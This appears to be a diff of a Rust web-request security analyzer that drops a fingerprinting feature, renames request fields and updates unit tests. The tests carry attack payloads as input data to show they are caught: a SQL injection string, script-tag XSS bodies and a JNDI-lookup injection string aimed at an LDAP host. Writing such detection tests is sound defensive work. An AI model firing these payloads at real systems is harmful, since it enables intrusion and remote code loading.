@@ -7,7 +7,6 @@ use serde::Deserialize;
 
 use crate::bots::{self, Detector, Selector, Verification};
 use crate::email;
-use crate::fingerprint::{self, Source};
 use crate::net::parse_ip;
 use crate::request::{parse_request, Request};
 
@@ -84,7 +83,6 @@ pub struct RuleSet {
 pub struct Analyzer {
     detector: Option<Detector>,
     rulesets: Vec<RuleSet>,
-    fingerprints: fingerprint::Cache,
     /// Shield's hits of values seen in earlier requests (user agents,
     /// cookies, URLs, short fields repeat); bounded, see `shield::Memo`.
     shield_memo: shield::Memo,
@@ -182,9 +180,8 @@ fn build(input: &[u8]) -> Result<RuleSet, String> {
 }
 
 /// Evaluate one request against rule set `handle`. Writes
-/// `{"r":[[index,"ALLOW"|"DENY"|"ERROR",reason],...]}`, then one line per
-/// fingerprint set: `\n` + the fingerprint, or `\n!` + why it is missing.
-/// A request that cannot be read gives `{"error": "..."}` alone.
+/// `{"r":[[index,"ALLOW"|"DENY"|"ERROR",reason],...]}`; a request that
+/// cannot be read gives `{"error": "..."}`.
 pub fn analyze_json(an: &mut Analyzer, handle: u32, input: &[u8], out: &mut Vec<u8>) {
     out.clear();
     let (req, body) = match parse_request(input) {
@@ -201,7 +198,7 @@ pub fn analyze_json(an: &mut Analyzer, handle: u32, input: &[u8], out: &mut Vec<
     let set = &an.rulesets[handle as usize];
     let detector = an.detector.as_ref();
     // Only bot rules read the parsed address (to verify crawlers' ranges).
-    let ip = if needs_bots { parse_ip(&req.1) } else { None };
+    let ip = if needs_bots { parse_ip(&req.ip) } else { None };
 
     out.extend_from_slice(b"{\"r\":[");
     let mut detection: Option<bots::Detection> = None;
@@ -213,7 +210,7 @@ pub fn analyze_json(an: &mut Analyzer, handle: u32, input: &[u8], out: &mut Vec<
         }
         match rule {
             Rule::Bot(rule) => {
-                let ua = req.0.as_deref().unwrap_or("");
+                let ua = req.ua.as_deref().unwrap_or("");
                 if ua.is_empty() {
                     let _ = write!(Buf(out), "[{},\"ERROR\",", rule.index);
                     write_error_reason(out, MISSING_UA);
@@ -227,7 +224,7 @@ pub fn analyze_json(an: &mut Analyzer, handle: u32, input: &[u8], out: &mut Vec<
                 };
                 bot_outcome(rule, det, detector.expect("compiled"), ip.as_ref(), out);
             }
-            Rule::Email(rule) => email_outcome(rule, req.2.as_deref(), out),
+            Rule::Email(rule) => email_outcome(rule, req.email.as_deref(), out),
             Rule::Shield(rule) => {
                 let found = match &findings {
                     Some((cfg, f)) if **cfg == rule.config => f,
@@ -237,29 +234,7 @@ pub fn analyze_json(an: &mut Analyzer, handle: u32, input: &[u8], out: &mut Vec<
             }
         }
     }
-    // Outcomes depend on the user agent and email, fingerprints on the IP and
-    // friends: separate lines, so the host can cache the decoded outcomes.
     out.extend_from_slice(b"]}");
-    let src = Source {
-        ip: &req.1,
-        method: &req.3,
-        host: &req.4,
-        path: &req.5,
-        query: &req.6,
-        cookies: &req.7,
-        headers: &req.8,
-        custom: &req.9,
-    };
-    for names in req.10.iter() {
-        out.push(b'\n');
-        match fingerprint::fingerprint(names, &src, &mut an.fingerprints) {
-            Ok(fp) => out.extend_from_slice(fp.as_bytes()),
-            Err(msg) => {
-                out.push(b'!');
-                out.extend_from_slice(msg.replace('\n', " ").as_bytes());
-            }
-        }
-    }
 }
 
 fn bot_outcome(rule: &BotRule, det: &bots::Detection, detector: &Detector, ip: Option<&std::net::IpAddr>, out: &mut Vec<u8>) {
@@ -298,7 +273,7 @@ fn bot_outcome(rule: &BotRule, det: &bots::Detection, detector: &Detector, ip: O
 
 /// Runs the shield crate over the request's shield fields.
 fn inspect_shield(req: &Request, body: Option<&[u8]>, config: &shield::Config, memo: &mut shield::Memo) -> Vec<shield::Finding> {
-    let pairs: &[Cow<str>] = req.11.as_deref().unwrap_or(&[]);
+    let pairs: &[Cow<str>] = req.shield_headers.as_deref().unwrap_or(&[]);
     // The host sends lower-case names; lower-case defensively all the same
     // (into a list of their own only when one needs it).
     let lowered: Vec<String>;
@@ -309,19 +284,19 @@ fn inspect_shield(req: &Request, body: Option<&[u8]>, config: &shield::Config, m
         pairs.chunks_exact(2).map(|p| (&*p[0], &*p[1])).collect()
     };
     let request = shield::Request {
-        method: &req.3,
-        path: &req.5,
-        query: &req.6,
+        method: &req.method,
+        path: &req.path,
+        query: &req.query,
         headers: &headers,
-        cookies: &req.7,
+        cookies: &req.cookies,
         body,
     };
     // Entries are the client's own (by IP): see shield::Memo.
-    let mut found = shield::inspect_with_memo(&request, config, memo, req.1.as_bytes());
+    let mut found = shield::inspect_with_memo(&request, config, memo, req.ip.as_bytes());
     // What the host could not send whole follows the rule's on_limit policy
     // like what the crate cuts itself: a body the host's read limit cut (of
     // a type shield reads), headers or fields it cut to fit the frame.
-    let cut = req.13.as_deref().unwrap_or("");
+    let cut = req.cut.as_deref().unwrap_or("");
     if cut.contains('t') && body.is_some() && shield::body_is_inspected(&headers) {
         found.push(shield::limit_finding(config, shield::Location::Body, "limits.body_truncated"));
     }
@@ -492,13 +467,13 @@ mod tests {
 
     #[test]
     fn shield_clean_request_allows() {
-        let out = run(SHIELD, r#"[null,"1.2.3.4",null,"GET","h","/","q=hello","a=1",{},{},[],["user-agent","x"],null]"#);
+        let out = run(SHIELD, r#"[null,"1.2.3.4",null,"GET","/","q=hello","a=1",["user-agent","x"],null]"#);
         assert_eq!(out, r#"{"r":[[3,"ALLOW",{"type":"SHIELD","shield_triggered":false,"categories":[],"score":0,"severities":{}}]]}"#);
     }
 
     #[test]
     fn shield_high_finding_denies_with_score() {
-        let out = run(SHIELD, r#"[null,"1.2.3.4",null,"GET","h","/","q=1%27%20or%201%3D1--","",{},{},[],[],null]"#);
+        let out = run(SHIELD, r#"[null,"1.2.3.4",null,"GET","/","q=1%27%20or%201%3D1--","",[],null]"#);
         assert!(out.starts_with(r#"{"r":[[3,"DENY",{"type":"SHIELD","shield_triggered":true,"categories":["SQL_INJECTION"],"score":3,"#), "{}", out);
         assert!(out.contains(r#""severities":{"SQL_INJECTION":"HIGH"}"#), "{}", out);
     }
@@ -511,7 +486,7 @@ mod tests {
 
     #[test]
     fn shield_body_bytes_follow_the_array_raw() {
-        let head = r#"[null,"1.2.3.4",null,"POST","h","/","","",{},{},[],["content-type","application/x-www-form-urlencoded"]"#;
+        let head = r#"[null,"1.2.3.4",null,"POST","/","","",["content-type","application/x-www-form-urlencoded"]"#;
         let out = run_bytes(SHIELD, &with_body(head, b"f=%3Cscript%3Ealert(1)%3C/script%3E&g=\xff\x00\"]"));
         assert!(out.contains(r#""DENY""#) && out.contains(r#""XSS""#), "{}", out);
         let out = run_bytes(SHIELD, &with_body(head, b"f=hello&g=\xff"));
@@ -520,20 +495,20 @@ mod tests {
         let mut bad = with_body(head, b"f=1");
         bad.push(b'x');
         assert!(run_bytes(SHIELD, &bad).starts_with(r#"{"error":"bad request encoding: body of 3 bytes"#));
-        let trailing = r#"[null,"1.2.3.4",null,"GET","h","/","","",{},{},[],null,null]xyz"#;
+        let trailing = r#"[null,"1.2.3.4",null,"GET","/","","",null,null]xyz"#;
         assert!(run(SHIELD, trailing).starts_with(r#"{"error":"bad request encoding: trailing"#));
     }
 
     #[test]
     fn shield_upper_case_header_names_are_lowered() {
-        let out = run(SHIELD, r#"[null,"1.2.3.4",null,"GET","h","/","","",{},{},[],["X-Api-Version","${jndi:ldap://e.com/a}"],null]"#);
+        let out = run(SHIELD, r#"[null,"1.2.3.4",null,"GET","/","","",["X-Api-Version","${jndi:ldap://e.com/a}"],null]"#);
         assert!(out.contains("JAVA_INJECTION"), "{}", out);
     }
 
     #[test]
     fn shield_limits_are_configurable() {
         let prefix = r#"{"rules":[{"kind":"SHIELD","index":0,"max_body_bytes":4,"on_limit":"inspect_prefix"}]}"#;
-        let req = with_body(r#"[null,"1.2.3.4",null,"POST","h","/","","",{},{},[],["content-type","text/plain"]"#, b"abcd<script>alert(1)</script>");
+        let req = with_body(r#"[null,"1.2.3.4",null,"POST","/","","",["content-type","text/plain"]"#, b"abcd<script>alert(1)</script>");
         let out = run_bytes(prefix, &req);
         assert!(out.contains(r#""ALLOW""#) && out.contains(r#""severities":{"INSPECTION_LIMIT":"LOW"}"#), "{}", out);
         // The default policy denies what it cannot inspect.
@@ -551,7 +526,7 @@ mod tests {
     #[test]
     fn shield_applies_on_limit_to_what_the_host_cut() {
         let prefix = r#"{"rules":[{"kind":"SHIELD","index":0,"on_limit":"inspect_prefix"}]}"#;
-        let text = r#"[null,"1.2.3.4",null,"POST","h","/","","",{},{},[],["content-type","text/plain"]"#;
+        let text = r#"[null,"1.2.3.4",null,"POST","/","","",["content-type","text/plain"]"#;
         let clean = with_body(text, b"hello");
         assert!(run_bytes(SHIELD, &clean).contains(r#""shield_triggered":false"#));
         // "t": the host's read limit cut the body.
@@ -563,10 +538,10 @@ mod tests {
         let out = run_bytes(prefix, &cut_body);
         assert!(out.contains(r#""ALLOW""#) && out.contains(r#""INSPECTION_LIMIT":"LOW""#), "{}", out);
         // A cut body of a type shield does not read is not over any limit.
-        let png = r#"[null,"1.2.3.4",null,"POST","h","/","","",{},{},[],["content-type","image/png"],5,"t"]hello"#;
+        let png = r#"[null,"1.2.3.4",null,"POST","/","","",["content-type","image/png"],5,"t"]hello"#;
         assert!(run(SHIELD, png).contains(r#""shield_triggered":false"#), "{}", run(SHIELD, png));
         // "c": headers or fields cut to fit the frame.
-        let cut_head = r#"[null,"1.2.3.4",null,"GET","h","/","","",{},{},[],[],null,"c"]"#;
+        let cut_head = r#"[null,"1.2.3.4",null,"GET","/","","",[],null,"c"]"#;
         let out = run(SHIELD, cut_head);
         assert!(out.contains(r#""DENY""#) && out.contains("INSPECTION_LIMIT"), "{}", out);
     }
